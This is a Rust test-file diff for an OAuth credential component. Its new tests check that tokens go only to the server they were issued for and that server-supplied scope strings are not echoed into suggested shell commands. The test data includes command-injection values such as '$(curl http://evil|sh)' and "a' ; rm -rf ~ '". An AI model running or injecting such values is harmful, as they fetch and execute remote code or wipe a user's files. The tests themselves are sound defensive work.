@@ -45,7 +45,13 @@ impl Stage {
         let bench = Arc::new(Bench::default());
         bench.time.store(1_000_000_000, Ordering::Relaxed);
         let keep = Arc::clone(&bench) as Arc<dyn GrantStore>;
-        let keeper = OAuthCredential::new("run `gatelet login wiki`", keep, now(&bench), || 1.0);
+        let keeper = OAuthCredential::new(
+            "run `gatelet login wiki`",
+            &server.url(),
+            keep,
+            now(&bench),
+            || 1.0,
+        );
         Stage { server, bench, keeper: Arc::new(keeper) }
     }
 
@@ -309,7 +315,13 @@ async fn fixed_headers_that_are_refused_are_tried_again_ever_later() {
 #[tokio::test]
 async fn a_server_that_refuses_one_call_is_still_asked_the_next() {
     let bench = Arc::new(Bench::default());
-    let keeper = OAuthCredential::new("log in", Arc::clone(&bench) as _, now(&bench), || 1.0);
+    let keeper = OAuthCredential::new(
+        "log in",
+        "https://wiki.example/mcp",
+        Arc::clone(&bench) as _,
+        now(&bench),
+        || 1.0,
+    );
     let fixed = FixedHeaders::new("change it", now(&bench));
     let refusal = Refusal { status: http::StatusCode::UNAUTHORIZED, challenge: None };
     for credential in [&keeper as &dyn Credential, &fixed] {
@@ -324,5 +336,58 @@ async fn a_server_that_refuses_one_call_is_still_asked_the_next() {
         assert!(matches!(credential.credential_health(), CredentialHealth::NeedsHuman { .. }));
         bench.time.fetch_add(3_600_000, Ordering::Relaxed);
         assert_eq!(credential.present().await, Ok(None));
+    }
+}
+
+#[tokio::test]
+async fn a_token_is_shown_only_to_the_server_that_was_logged_in_to() {
+    let stage = Stage::new().await;
+    let grant = stage.log_in().await;
+    let credential = |server: &str| {
+        let keep = Arc::clone(&stage.bench) as Arc<dyn GrantStore>;
+        let todo = "run `gatelet login wiki`";
+        OAuthCredential::new(todo, server, keep, now(&stage.bench), || 1.0)
+    };
+    let ours = credential(&format!("{}?a=b#c", stage.server.url()));
+    assert!(ours.present().await.unwrap().is_some());
+    let other = stage.server.url().replace("127.0.0.1", "localhost");
+    let refusal = Refusal { status: http::StatusCode::UNAUTHORIZED, challenge: None };
+    for server in ["https://evil.example/mcp", &other, &format!("{}/x", stage.server.url()), ""] {
+        let stranger = credential(server);
+        assert_eq!(stranger.present().await, Ok(None), "{server}");
+        let told = stranger.refused(None, &refusal).await.unwrap_err().to_string();
+        assert!(told.contains("its token is for"), "{told}");
+        assert!(told.contains("run `gatelet login wiki`"), "{told}");
+    }
+    // What was kept before grants were bound is not used either.
+    stage.bench.save(&Grant { server: String::new(), ..grant }).unwrap();
+    let unbound = credential(&stage.server.url());
+    assert_eq!(unbound.present().await, Ok(None));
+    let told = unbound.refused(None, &refusal).await.unwrap_err().to_string();
+    assert!(told.contains("does not say which server it is for"), "{told}");
+}
+
+#[tokio::test]
+async fn what_a_server_calls_a_scope_is_no_part_of_a_command_unless_it_is_plain() {
+    let stage = Stage::new().await;
+    stage.log_in().await;
+    for (scope, shown) in [
+        ("read write:all", Some("run `gatelet login wiki --scope \"read write:all\"`")),
+        ("$(curl http://evil|sh)", None),
+        ("`id`", None),
+        ("a' ; rm -rf ~ '", None),
+        ("--as", None),
+    ] {
+        let challenge = format!(r#"Bearer error="insufficient_scope", scope="{scope}""#);
+        let refusal = Refusal { status: http::StatusCode::FORBIDDEN, challenge: Some(challenge) };
+        let failure = stage.keeper.refused_again(None, &refusal);
+        let Failure::Unauthorized { reason } = failure else { panic!("{failure}") };
+        match shown {
+            Some(shown) => assert_eq!(reason, shown),
+            None => assert!(!reason.contains(scope), "{reason}"),
+        }
+        let fixed = FixedHeaders::new("change it", now(&stage.bench));
+        let told = fixed.refused_again(None, &refusal).to_string();
+        assert_eq!(told.contains(scope), shown.is_some(), "{told}");
     }
 }
